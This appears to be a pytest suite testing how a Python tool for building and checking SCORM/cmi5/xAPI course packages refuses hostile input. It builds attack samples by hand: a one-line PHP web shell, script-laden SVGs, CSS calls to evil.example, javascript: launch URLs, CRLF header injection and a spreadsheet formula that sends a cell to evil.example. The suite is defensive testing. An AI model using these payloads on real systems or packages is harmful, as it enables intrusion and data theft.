"""What a hostile package, definition, record or LRS answer can still do (issue 17): one test per
class, each with an input made by hand here, as an attacker would make it."""

from __future__ import annotations

import io
import struct
import unicodedata
import zipfile
from pathlib import Path

import pytest

from modpack.checker import check

from .fixtures.hostile.make import INDEX, MANIFEST


def codes(report) -> set[str]:
    return {f.code for f in report.findings}


def package(*extra: tuple[str, bytes]) -> bytes:
    """A small valid SCORM 1.2 package with ``extra`` entries, as bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("imsmanifest.xml", MANIFEST)
        archive.writestr("index.html", INDEX)
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def write(tmp_path: Path, data: bytes, name: str = "paket.zip") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _eocd(data: bytes) -> int:
    return data.rfind(b"PK\x05\x06")


def _central_records(data: bytes) -> list[tuple[int, int, bytes]]:
    """(offset, length, name) of each central directory record."""
    end = _eocd(data)
    count, size, offset = struct.unpack_from("<HLL", data, end + 10)
    records, at = [], offset
    for _ in range(count):
        name_length, extra_length, comment_length = struct.unpack_from("<3H", data, at + 28)
        length = 46 + name_length + extra_length + comment_length
        records.append((at, length, data[at + 46:at + 46 + name_length]))
        at += length
    return records


def drop_from_central(data: bytes, name: bytes) -> bytes:
    """The zip with ``name`` left out of the central directory; its local header and data stay."""
    records = _central_records(data)
    start = records[0][0]
    kept = b"".join(data[at:at + length] for at, length, entry in records if entry != name)
    end = _eocd(data)
    tail = bytearray(data[end:])
    struct.pack_into("<HHLL", tail, 8, len(records) - 1, len(records) - 1, len(kept), start)
    return data[:start] + kept + bytes(tail)


def test_a_local_header_naming_another_file_is_refused(tmp_path):
    data = bytearray(package(("halaman.html", b"<p>ok</p>")))
    local = data.find(b"halaman.html")  # the first is in the local header
    assert local < _central_records(bytes(data))[0][0]
    data[local:local + 12] = b"serang.phtml"[:12]
    report = check(write(tmp_path, bytes(data)))
    finding = next(f for f in report.findings if f.code == "name-differs")
    assert finding.file == "halaman.html" and "serang.phtml" in finding.message
    assert report.readable and report.exit_code == 1  # an error, in plain words: not a damaged zip


def test_data_the_central_directory_does_not_list_is_refused(tmp_path):
    hidden = drop_from_central(package(("shell.php", b"<?php system($_GET['c']); ?>")), b"shell.php")
    assert b"shell.php" in hidden and "shell.php" not in zipfile.ZipFile(io.BytesIO(hidden)).namelist()
    report = check(write(tmp_path, hidden))
    assert "hidden-entry" in codes(report) and report.exit_code == 1
    stub = b"MZ" + b"\x00" * 4094 + package()  # an executable in front: zipfile reads on, others do not
    report = check(write(tmp_path, stub, "stub.zip"))
    finding = next(f for f in report.findings if f.code == "unlisted-data")
    assert "4096 bytes at offset 0" in finding.message


def test_names_that_collide_after_case_folding_or_normalisation_are_refused(tmp_path):
    nfd = unicodedata.normalize("NFD", "kafé.html")
    report = check(write(tmp_path, package(("Index.html", b"x"), ("kafé.html", b"a"), (nfd, b"b"))))
    found = {(f.code, f.file) for f in report.findings}
    assert ("name-collision", "index.html") in found or ("name-collision", "Index.html") in found
    assert ("name-collision", nfd) in found or ("name-collision", "kafé.html") in found
    assert report.exit_code == 1


def test_a_name_with_a_nul_is_refused_by_its_raw_bytes(tmp_path):
    data = bytearray(package(("rapor.htmlZ.js", b"alert(1)")))
    for _ in range(2):  # the local header's name and the central directory's
        at = data.find(b"rapor.htmlZ.js")
        data[at + 10] = 0
    report = check(write(tmp_path, bytes(data)))
    finding = next(f for f in report.findings if f.code == "name-nul")
    assert finding.file == "rapor.html\\x00.js" and "rapor.html" in finding.message
    assert report.files == 2  # neither 'rapor.html' nor the whole name is read as an entry


@pytest.mark.parametrize("name", ["con.html", "aux/catatan.txt", "media/COM1.mp3", "nul", "materi./a.html"])
def test_names_windows_reserves_are_refused(tmp_path, name):
    report = check(write(tmp_path, package((name, b"x"))))
    assert [f.file for f in report.findings if f.code == "reserved-name"] == [name]
    assert report.exit_code == 1


@pytest.mark.parametrize("separator", ["\u2215", "\uff0f", "\u2044", "\uff3c"])
def test_look_alike_separators_are_refused(tmp_path, separator):
    name = f"konten{separator}index.html"
    report = check(write(tmp_path, package((name, b"x"))))
    finding = next(f for f in report.findings if f.code == "lookalike-separator")
    assert finding.file == name and f"U+{ord(separator):04X}" in finding.message


def test_one_part_of_a_multi_disk_archive_is_refused_in_plain_words(tmp_path):
    data = bytearray(package())
    end = _eocd(bytes(data))
    struct.pack_into("<HH", data, end + 4, 2, 0)  # this is disk 3; the central directory began on disk 1
    report = check(write(tmp_path, bytes(data)))
    assert not report.readable and report.exit_code == 2
    assert "split over 3 disks" in report.findings[0].message


def test_a_package_zip_tools_make_has_none_of_these(tmp_path):
    report = check(write(tmp_path, package(("media/foto.jpg", b"\xff\xd8" * 100), ("kafé.html", b"a"))))
    assert not codes(report) & {"name-differs", "hidden-entry", "unlisted-data", "shared-data", "name-collision",
                                "name-nul", "reserved-name", "lookalike-separator"}


# -- 1. active content: HTML and script files refused as assets, SVG packed as a picture only -------

import modpack  # noqa: E402
from .conftest import MINIMAL  # noqa: E402

HOSTILE_SVG = ("<?xml-stylesheet href='x.xsl' type='text/xsl'?>"
               "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' "
               "onload='alert(document.cookie)' viewBox='0 0 10 10'><script>alert(1)</script>"
               "<a xlink:href='javascript:alert(2)'><rect width='5' height='5' onclick='alert(3)'/></a>"
               "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>alert(4)</script></body>"
               "</foreignObject><set attributeName='href' to='javascript:alert(5)'/><circle r='2'/></svg>")


@pytest.mark.parametrize("link", ["[simulasi](simulasi.html)", "<a href='../lampiran/data.xml'>data</a>",
                                  "[skrip](kode.JS)", "<iframe src='x.xhtml'></iframe>"])
def test_a_page_cannot_link_active_content_into_the_package(write_module, tmp_path, link):
    target = {"[simulasi](simulasi.html)": "halaman/simulasi.html", "[skrip](kode.JS)": "halaman/kode.JS",
              "<a href='../lampiran/data.xml'>data</a>": "lampiran/data.xml",
              "<iframe src='x.xhtml'></iframe>": "halaman/x.xhtml"}[link]
    folder = write_module(files={"halaman/satu.md": f"Halo.\n\n{link}\n", target: "<script>alert(1)</script>"})
    found = [d for d in modpack.validate(folder) if d.code == "active-content"]
    assert len(found) == 1 and found[0].line == 3 and "delivery.trusted_active_files" in found[0].message
    with pytest.raises(modpack.InvalidDefinition):
        modpack.build(folder, "scorm12", out=tmp_path / "dist")
    assert not (tmp_path / "dist").exists() or not list((tmp_path / "dist").iterdir())


def test_a_trusted_file_is_packed_as_it_is(write_module, tmp_path):
    text = MINIMAL + "delivery:\n  trusted_active_files: [halaman/simulasi.html]\n"
    folder = write_module(text, files={"halaman/satu.md": "Halo.\n\n[simulasi](simulasi.html)\n",
                                       "halaman/simulasi.html": "<script>hitung()</script>"})
    assert [d for d in modpack.validate(folder) if d.severity.value == "error"] == []
    with zipfile.ZipFile(modpack.build(folder, "scorm12", out=tmp_path / "dist")[0]) as archive:
        packed = [n for n in archive.namelist() if n.endswith("simulasi.html")]
        assert packed and archive.read(packed[0]) == b"<script>hitung()</script>"


def test_an_svg_is_packed_as_a_picture_only(write_module, tmp_path):
    folder = write_module(files={"halaman/satu.md": "Halo.\n\n![Peta desa](peta.svg)\n\n[peta besar](peta.svg)\n",
                                 "halaman/peta.svg": HOSTILE_SVG})
    warned = [d for d in modpack.validate(folder) if d.code == "svg-sanitised"]
    assert len(warned) == 1 and "<script>" in warned[0].message and "onload" in warned[0].message
    with zipfile.ZipFile(modpack.build(folder, "scorm12", out=tmp_path / "dist")[0]) as archive:
        name = next(n for n in archive.namelist() if n.endswith("peta.svg"))
        packed = archive.read(name)
    for active in (b"script", b"onload", b"onclick", b"javascript", b"foreignObject", b"<set", b"xml-stylesheet"):
        assert active not in packed
    assert b"<circle" in packed and b"<rect" in packed and b'viewBox="0 0 10 10"' in packed
    report = check(next((tmp_path / "dist").iterdir()))
    assert "active-content" not in codes(report)


def test_an_svg_fetches_nothing_from_elsewhere_through_css():
    """An @import in a <style>, fill="url(https://...)", style="filter:url(...)" stayed in a packed
    SVG: opened from the package, it would call a tracker. What is within the picture stays."""
    from modpack.definition.svg import sanitise

    svg = (b'<svg xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="g"/></defs>'
           b'<style>@import url(https://evil.example/track.css); .a{fill:red}</style>'
           b'<style>.b{fill:url(#g)} .c{background:u\\72l(//evil.example/e.png)}</style><style>.d{fill:url(#g)}</style>'
           b'<rect style="fill:url(https://evil.example/x.svg#a)" filter="url(\'//evil.example/f.svg#f\')" '
           b'mask="image-set(\'https://evil.example/m.png\' 1x)" fill="url(#g)" class="d" width="5" height="5"/></svg>')
    clean = sanitise(svg)
    assert b"evil" not in clean.data and b"@import" not in clean.data
    assert b'fill="url(#g)"' in clean.data and b"<style>.d{fill:url(#g)}</style>" in clean.data
    assert {"style", "filter", "mask"} <= set(clean.removed)
    # what a read of the sanitiser found (a comment before ')', a quote left open in a comment, an
    # element inside <style>, an escaped '(') are read as a browser reads them
    for hostile in (b'<style>rect{fill:url("https://evil.example/p.svg#g"/**/)}</style>',
                    b"<style>/* url(' */ rect{fill:url(https://evil.example/p.svg#g)}</style>",
                    b"<style><g/>rect{fill:url(https://evil.example/p.svg#g)}</style>",
                    b'<rect style="fill:u\\72l\\28https://evil.example/p.svg#g)" width="1" height="1"/>'):
        assert b"evil" not in sanitise(b'<svg xmlns="http://www.w3.org/2000/svg">' + hostile + b"</svg>").data, hostile
    # and an Illustrator style naming a font by escapes keeps its colours
    kept = b"<style>.st0{fill:#E30613;}.st1{font-family:'\\30E1\\30A4';}</style>"
    assert kept in sanitise(b'<svg xmlns="http://www.w3.org/2000/svg">' + kept + b"</svg>").data


@pytest.mark.parametrize("svg, reason", [
    ("<!DOCTYPE svg [<!ENTITY a 'aaaa'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>", "DTD"),
    ("<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "not well-formed"),
    ("<html><script>alert(1)</script></html>", "not an SVG picture"),
])
def test_an_svg_that_is_not_a_picture_is_refused(write_module, svg, reason):
    folder = write_module(files={"halaman/satu.md": "![Peta](peta.svg)\n", "halaman/peta.svg": svg})
    found = [d for d in modpack.validate(folder) if d.code == "svg-invalid"]
    assert len(found) == 1 and reason in found[0].message and found[0].line == 1


def rezip(path: Path, changes: dict[str, bytes]) -> Path:
    """The package with some entries' bytes replaced (or added)."""
    with zipfile.ZipFile(path) as archive:
        files = {n: archive.read(n) for n in archive.namelist()}
    files.update(changes)
    out = path.with_name("diubah-" + path.name)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out


def test_check_flags_an_svg_that_runs_script(tmp_path):
    report = check(write(tmp_path, package(("gambar/peta.svg", HOSTILE_SVG.encode()))))
    finding = next(f for f in report.findings if f.code == "active-content")
    assert finding.file == "gambar/peta.svg" and finding.severity.value == "warning"


@pytest.mark.parametrize("fmt, descriptor, old, new", [
    ("scorm12", "imsmanifest.xml", b'href="index.html"', b'href="javascript:alert(1)"'),
    ("cmi5", "cmi5.xml", b"<url>index.html</url>", b"<url>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</url>"),
    ("xapi", "tincan.xml", b"<launch lang=\"id-ID\">index.html</launch>", b"<launch lang=\"id-ID\"> JavaScript:alert(1)</launch>"),
])
def test_check_refuses_script_launch_urls(tmp_path, fmt, descriptor, old, new):
    from .conftest import SAMPLES
    built = modpack.build(SAMPLES / "rujukan-terpadu", fmt, out=tmp_path / "dist")[0]
    with zipfile.ZipFile(built) as archive:
        text = archive.read(descriptor)
    assert old in text, text[:2000]
    report = check(rezip(built, {descriptor: text.replace(old, new, 1)}))
    assert [f.code for f in report.findings if f.severity.value == "error"] == ["launch-scheme"]


def test_script_schemes_are_read_as_browsers_read_urls():
    from modpack.checker.reader import script_scheme
    assert [script_scheme(u) for u in ("java\tscript:alert(1)", "\x01 JAVASCRIPT:x", "vbscript:x", "data:text/html,x",
                                        "index.html", "https://a.example/", "javascript")] == \
        ["javascript", "javascript", "vbscript", "data", None, None, None]


# -- 3. credentials: never printed, never in a URL, never sent broken ---------------------------------

import json  # noqa: E402
import os  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402

from modpack.credentials import keep, redact  # noqa: E402
from modpack.xapi.report import report_csv, self_paced_hours, LearnerHours  # noqa: E402
from modpack.xapi.send import Lrs, SendError, credentials_from  # noqa: E402

from .test_progress import scripted_lrs  # noqa: E402,F401 - the fixture: an LRS answering from a script

SECRET = "c2VjcmV0UmFoYXNpYTEyMw=="


def modpack_run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith("MODPACK_LRS")}
    return subprocess.run([sys.executable, "-m", "modpack", *args], capture_output=True, text=True, timeout=120,
                          env={**clean, "MODPACK_LANG": "en", **(env or {})})


@pytest.mark.parametrize("auth", [f"Basic {SECRET}\r\nX-Injected: 1", f"Basic {SECRET}\n", f"Basic {SECRET}é",
                                  f"Basic\x00{SECRET}"])
def test_a_broken_authorization_value_is_refused_and_never_printed(tmp_path, scripted_lrs, auth):
    endpoint, handler = scripted_lrs
    statements = tmp_path / "s.jsonl"
    statements.write_text('{"id": "x"}\n', encoding="utf-8")
    if "\x00" in auth:  # an environment cannot hold a NUL; a credentials file can
        (tmp_path / "kredensial.json").write_text(json.dumps({"auth": auth}), encoding="utf-8")
        result = modpack_run("send", str(statements), "--lrs", endpoint, "--credentials",
                             str(tmp_path / "kredensial.json"))
    else:
        result = modpack_run("send", str(statements), "--lrs", endpoint, env={"MODPACK_LRS_AUTH": auth})
    assert result.returncode == 2 and "internal error" not in result.stderr
    assert SECRET not in result.stdout + result.stderr and "Authorization value" in result.stderr
    assert handler.seen == []  # nothing reached the LRS
    with pytest.raises(SendError) as refused:
        Lrs(endpoint, auth)
    assert SECRET not in str(refused.value)


def test_a_password_in_the_lrs_address_is_refused_and_kept_out_of_every_file(tmp_path):
    statements = tmp_path / "s.jsonl"
    statements.write_text('{"id": "x"}\n', encoding="utf-8")
    address = "http://petugas:Rahasia-Dinsos-77@127.0.0.1:9/xAPI/"
    for command in (["send", str(statements), "--lrs", address], ["preview", "samples/rujukan-terpadu", "--port", "0",
                                                                 "--lrs", address]):
        result = modpack_run(*command, env={"MODPACK_LRS_USERNAME": "u", "MODPACK_LRS_PASSWORD": "p"})
        assert result.returncode == 2 and "user name or password" in result.stderr, result.stderr
        assert "Rahasia-Dinsos-77" not in result.stdout + result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.jsonl"]  # no checkpoint, no lock


@pytest.mark.parametrize("content, reason", [
    ('{"username": "petugas"}', 'needs "username" and "password"'),
    ('{"username": "petugas", "password": 12345678}', 'needs "username" and "password"'),
    ('{"username": "petugas", "password": ', "not valid JSON"),
    ("Rahasia-Tanpa-Pengguna", "one line, username:password"),
    ("pe:tugas:Rahasia-Dua\nbaris-kedua", "one line"),
])
def test_a_credentials_file_that_cannot_be_used_is_a_message_not_a_crash(tmp_path, content, reason):
    file = tmp_path / "kredensial"
    file.write_text(content, encoding="utf-8")
    statements = tmp_path / "s.jsonl"
    statements.write_text('{"id": "x"}\n', encoding="utf-8")
    result = modpack_run("send", str(statements), "--lrs", "http://127.0.0.1:9/xAPI/", "--credentials", str(file))
    assert result.returncode == 2 and reason in result.stderr and "internal error" not in result.stderr
    assert "Rahasia" not in result.stdout + result.stderr


def test_every_credential_read_is_hidden_from_any_message():
    auth = credentials_from({"MODPACK_LRS_USERNAME": "petugas", "MODPACK_LRS_PASSWORD": "Sandi-Rahasia-9"})
    token = auth.split()[1]
    message = f"httpx: Illegal header value b'{auth}' (password Sandi-Rahasia-9)"
    assert redact(message) == "httpx: Illegal header value b'[hidden]' (password [hidden])"
    keep("Bearer eyJhbGciOi.J9")
    assert "eyJhbGciOi" not in redact("sent Authorization: Bearer eyJhbGciOi.J9") and token not in redact(token)


# -- 4. report: CSV cells escaped against formulas, the LRS's numbers validated ------------------------

def statement_with_jp(number: int, jp, actor=None) -> dict:
    return {"id": f"00000000-0000-4000-8000-{number:012d}",
            "actor": actor if actor is not None else {"mbox": f"mailto:p{number}@example.id", "name": f"P{number}"},
            "verb": {"id": "http://adlnet.gov/expapi/verbs/completed"},
            "object": {"id": "https://pelatihan.example.go.id/xapi/modul-uji", "definition": {"type": "x/course"}},
            "timestamp": "2026-05-01T10:00:00Z",
            "context": {"extensions": {"https://pelatihan.example.go.id/xapi/extensions/jp": jp}}}


def test_numbers_from_the_lrs_are_validated_per_statement(scripted_lrs):
    endpoint, handler = scripted_lrs
    page = {"statements": [statement_with_jp(1, 2), statement_with_jp(2, "1e309"), statement_with_jp(3, -4),
                           statement_with_jp(4, True), statement_with_jp(5, {"jp": 1}), statement_with_jp(6, 1.5),
                           statement_with_jp(7, 1, actor="nobody"), "not a statement"]}
    text = json.dumps(page).replace('"1e309"', "1e309")  # a number too large for a float: infinity to Python
    handler.script.append((200, {}, text.encode()))
    hours: dict[str, LearnerHours] = {}
    problems: list[str] = []
    counted = self_paced_hours(Lrs(endpoint, "Basic eDp5"), ["https://pelatihan.example.go.id/xapi/"], 2026, hours,
                               problems)
    assert counted == 2 and {h.learner: h.self_paced for h in hours.values()} == {
        "mailto:p1@example.id": 2.0, "mailto:p6@example.id": 1.5}
    assert len(problems) == 6
    assert any("000000000003" in p and "not a number of 0 or more" in p for p in problems)
    assert any("000000000007" in p and "names no learner" in p for p in problems)


def test_report_cells_that_a_spreadsheet_would_run_are_escaped():
    hours = {k: LearnerHours(k, name) for k, name in [
        ("mailto:a@example.id", "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"), ("mailto:b@example.id", "+62812"),
        ("mailto:c@example.id", "-1+1"), ("mailto:d@example.id", "@SUM(A1)"), ("mailto:e@example.id", "\tTab"),
        ("=cmd|' /C calc'!A0", "Siti")]}
    rows = list(__import__("csv").reader(io.StringIO(report_csv(hours, 20))))
    names = [r[1] for r in rows[1:]]
    assert all(n.startswith("'") for n in names if n != "Siti") and "Siti" in names
    assert "'=cmd|' /C calc'!A0" in [r[0] for r in rows[1:]]
    assert rows[1][2:5] == ["0", "0", "0"]  # numbers stay numbers


# -- 5. preview: hostile bodies are 400s, a hostile store never breaks /tracked, files removed on exit --

import signal  # noqa: E402
import time  # noqa: E402

from .test_preview import _request, cmi5_preview  # noqa: E402,F401 - a running cmi5 preview and its token

DEEP = b"[" * 100_000 + b"]" * 100_000


@pytest.mark.parametrize("body", [DEEP, b'{"result": {"score": {"scaled": NaN}}}', b'{"a": Infinity}'],
                         ids=["deep", "nan", "infinity"])
def test_bodies_python_reads_but_json_forbids_are_400(cmi5_preview, body):
    base, state, auth = cmi5_preview
    status, reply = _request(base, "/xapi/statements", body, "POST", auth)
    assert status == 400 and b"error" in reply
    assert _request(base, "/tracked")[0] == 200


def test_a_statement_too_deep_to_read_in_the_store_never_breaks_tracked(cmi5_preview):
    base, state, auth = cmi5_preview
    good = {"actor": {"mbox": "mailto:a@b.id"}, "verb": {"id": "http://adlnet.gov/expapi/verbs/experienced"},
            "object": {"id": "https://x.example/a"}}
    assert _request(base, "/xapi/statements", json.dumps(good).encode(), "POST", auth)[0] == 200
    with state.statements_file.open("ab") as handle:
        handle.write(b'{"result": ' + DEEP + b"}\n" + b'{"x": "' + b"a" * (5 * 1024 * 1024) + b'"}\n')
    status, page = _request(base, "/tracked")
    assert status == 200 and b"experienced" in page
    status, reply = _request(base, "/xapi/statements", None, "GET", auth)
    assert status == 200 and len(json.loads(reply)["statements"]) == 1


def test_the_preview_removes_its_temporary_folder_when_it_is_stopped_by_a_signal(tmp_path):
    """Stopped as soon as it says where it is (a kill came before its handler once, in CI, and the
    folder stayed), and at 25 moments while it starts. Its own TMPDIR: another test's preview is not
    taken for this one's."""
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    env = {**os.environ, "MODPACK_LANG": "en", "TMPDIR": str(temporary)}
    command = [sys.executable, "-m", "modpack", "preview", "samples/rujukan-terpadu", "--port", "0", "--format", "scorm12"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    try:
        assert "Preview on" in process.stdout.readline()
        assert len(list(temporary.glob("modpack-preview-*"))) == 1
        process.send_signal(signal.SIGTERM)
        process.wait(30)
    finally:
        if process.poll() is None:
            process.kill()
    assert list(temporary.iterdir()) == []
    assert "internal error" not in process.stderr.read()
    # at moments while Python starts, the module is built (a kill that came while pydantic built its
    # validators once reached the command wrapped in a SchemaError: an internal error), the server set up
    for delay in [0.05 + step * 0.025 for step in range(25)]:
        process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=env)
        try:
            time.sleep(delay)
            process.send_signal(signal.SIGTERM)
            _, err = process.communicate(timeout=30)
        finally:
            if process.poll() is None:
                process.kill()
        assert list(temporary.iterdir()) == [], delay
        assert "internal error" not in err and "Traceback" not in err, err


def test_the_preview_stops_on_a_signal_that_something_swallowed(tmp_path):
    """A kill whose exception a finaliser or an import's callback swallowed (where Python cannot
    raise, and printed "Exception ignored in ... Traceback"): the preview once served on after
    it, in CI. Played by a finaliser in which the kill's handler runs, before the command starts."""
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    env = {**os.environ, "MODPACK_LANG": "en", "TMPDIR": str(temporary)}
    script = ("import signal, sys\n"
              "from modpack import signals\n"
              "signals.install()\n"
              "class Finalised:\n"
              "    def __del__(self): signals.on_signal(signal.SIGTERM, None)\n"
              "Finalised()\n"
              "from modpack.resident.client import main\n"
              "sys.argv[0] = 'modpack'\n"
              "main()\n")
    done = subprocess.run([sys.executable, "-c", script, "preview", "samples/rujukan-terpadu", "--port", "0",
                           "--format", "scorm12"], capture_output=True, text=True, env=env, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "Preview on" in done.stdout
    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr, done.stderr
    assert list(temporary.iterdir()) == []


def test_an_error_that_a_finaliser_swallows_is_still_printed_once_the_command_handles_signals():
    """The hook that keeps a swallowed signal quiet keeps nothing else quiet."""
    script = ("from modpack import signals\n"
              "signals.install()\n"
              "class Finalised:\n"
              "    def __del__(self): raise ValueError('a finaliser broke')\n"
              "Finalised()\n")
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0
    assert "Exception ignored in" in done.stderr and "ValueError: a finaliser broke" in done.stderr


def test_the_report_never_follows_a_more_link_to_another_host(scripted_lrs):
    endpoint, handler = scripted_lrs
    handler.script.append((200, {}, json.dumps({"statements": [statement_with_jp(1, 2)],
                                                "more": "https://elsewhere.example/xAPI/statements?p=2"}).encode()))
    with pytest.raises(SendError, match=r"another host \(elsewhere.example\)"):
        self_paced_hours(Lrs(endpoint, "Basic eDp5"), ["https://pelatihan.example.go.id/xapi/"], None, {})
    assert len(handler.seen) == 1


# -- 6. dependencies: floors that keep out known resource-exhaustion bugs; CI installs pinned versions -

ROOT = Path(__file__).resolve().parent.parent
# the releases before these have known bugs that hostile input reaches (see docs/dependencies.md)
FLOORS = {"pyyaml": ("6.0.4", "6.0.3")}  # name: (the floor, the last release it keeps out)


def test_dependency_floors_and_the_ci_constraints_agree():
    import tomllib

    from packaging.requirements import Requirement
    from packaging.version import Version

    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    requirements = [Requirement(r) for r in project["dependencies"] + project["optional-dependencies"]["test"]]
    pins = {}
    for line in (ROOT / ".ci" / "constraints.txt").read_text(encoding="utf-8").splitlines():
        if line and not line.startswith("#"):
            name, _, version = line.partition("==")
            pins[name] = Version(version)
    for requirement in requirements:
        name = requirement.name.lower().replace("_", "-")
        if name in FLOORS:  # the floor is in pyproject itself, so every install honours it
            floor, below = FLOORS[name]
            assert requirement.specifier.contains(floor) and not requirement.specifier.contains(below)
        if requirement.marker is not None and not requirement.marker.evaluate():
            continue
        assert name in pins, f"{name} is not pinned: run python3 .ci/freeze.py"
        assert requirement.specifier.contains(pins[name]), f"{name}=={pins[name]} is outside {requirement.specifier}"
    assert "-c .ci/constraints.txt" in (ROOT / ".ci" / "run").read_text(encoding="utf-8")
